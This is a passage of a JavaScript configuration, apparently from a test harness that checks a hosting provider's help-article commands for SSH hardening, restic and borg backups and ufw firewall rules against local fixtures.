  '/order/additional-ip/ipv6': {blocks: {netplan: {path: '/etc/netplan/50-cloud-init.yaml'}}},
  // SSH keys on the reader's Linux computer: the key is made with the passphrase the article asks for.
  '/working-with-server/tech-questions/ssh-connect': {
    fixtures: ['ssh-running'],
    blocks: {
      keygen: keygen,
      restart: {
        checks: [
          {command: 'sshd -T', prints: 'passwordauthentication no'},
          {command: 'sshd -T', prints: 'kbdinteractiveauthentication no'},
        ],
      },
    },
  },
  // Backups to the backup storage: restic and borg over SFTP/SSH to <user>@<backup-host> (this root).
  '/order/backup/configuration': {
    fixtures: ['www-site', 'mariadb', 'sshd-loopback'],
    placeholders: {'backup-host': '127.0.0.1'},
    blocks: {
      script: {path: '/usr/local/sbin/backup.sh'},
      'first-run': {
        checks: [
          'restic snapshots | grep -q "1 snapshots"',
          'restic ls latest | grep -qx /home/user/notes.txt',
          'restic ls latest | grep -qx /var/www/example.com/public/index.php',
          'restic dump latest /var/backups/db/mysql.sql.gz | zcat | grep -q "INSERT INTO \\`orders\\`"',
        ],
      },
      restore: {checks: ['cmp /tmp/restore-test/etc/hostname /etc/hostname']},
    },
  },
  '/working-with-server/tech-questions/backup/how-to-connect': {
    fixtures: ['www-site', 'mariadb', 'sshd-loopback'],
    placeholders: {'backup-host': '127.0.0.1', archive: '$(borg list --short --last 1)'},
    blocks: {
      rsync: {checks: ['diff -r /var/www /home/user/www']},
      // The storage is this same root over SSH: its user's home moves out of /home first, or the
      // page's `borg create … /home` would read the repository while writing it (exit 1, file changed).
      init: {before: ['usermod -d /srv/storage-user -m user'], input: `${borgPassphrase}${borgPassphrase}N\n`},
      'key-export': {input: borgPassphrase, checks: ['grep -q "BORG_KEY" /root/borg-key.txt']},
      create: {input: borgPassphrase},
      // Two borg commands in one block ask twice; the reader types the passphrase at each prompt.
      prune: {before: ['export BORG_PASSPHRASE="Test passphrase 1"']},
      restore: {checks: ['cmp /tmp/restore/var/www/example.com/public/uploads/photo.jpg /var/www/example.com/public/uploads/photo.jpg']},
      // The nightly script: saved, then run once as cron would; it dumps the databases and adds an
      // archive (the newest is deleted first, since archives are named to the minute).
      script: {
        path: '/root/backup.sh',
        checks: [
          'borg delete "::$(borg list --short --last 1)" && bash /root/backup.sh',
          'BORG_PASSCOMMAND="cat /root/.borg-passphrase" borg list | grep -q "^srv1-"',
        ],
      },
    },
  },
  '/apps/3x-ui': firewall,
  '/apps/affine': firewall,
  '/apps/codeserver': firewall,
  '/apps/docker': firewall,
  '/apps/gitea': firewall,
  '/apps/gui': {blocks: {firewall: {checks: [...sshStaysOpen, 'ufw status | grep -Eq "^3389/tcp +ALLOW( IN)? +198.51.100.7"']}}},
  '/apps/mailu': firewall,
  '/apps/memos': firewall,
  '/apps/minio': firewall,
  '/apps/n8n': firewall,
  '/apps/nextcloud': firewall,
  '/apps/nodejs': firewall,
  '/apps/ovpn-admin': firewall,
  '/apps/rabbitmq': firewall,
  '/apps/rocketchat': firewall,
  '/apps/rustdesk': firewall,
  '/apps/siyuan': firewall,
  '/apps/vaultwarden': firewall,
  '/order/panels/fastpanel/address': firewallRule('^8888/tcp +ALLOW'),
  '/order/panels/ispmanager/access': firewallRule('^1500/tcp +ALLOW'),
  '/prepurchase/forbidden-software/proxy': firewallRule('^3128/tcp +ALLOW( IN)? +198.51.100.7'),
  '/prepurchase/network-speed/dedic-local': firewallRule('^5201/tcp +ALLOW( IN)? +10.0.0.2'),
  '/working-with-server/lan/howto': {...firewallRule('^Anywhere +ALLOW( IN)? +10.0.0.0/24'), placeholders: {iface: 'eth1'}},
  '/working-with-server/tech-questions/fastpanel/faq': firewallRule('^8888/tcp +ALLOW'),
  // After `ufw disable` the reader is no longer locked out: ufw is off and nothing is dropped.
  '/working-with-server/tech-questions/kvm': {
    blocks: {
      firewall: {
        fixtures: ['ufw-on'],
        checks: [
          {command: 'ufw status', prints: 'Status: inactive'},
          {command: 'iptables -S INPUT', prints: '-P INPUT ACCEPT'},
        ],
      },
    },
  },
};
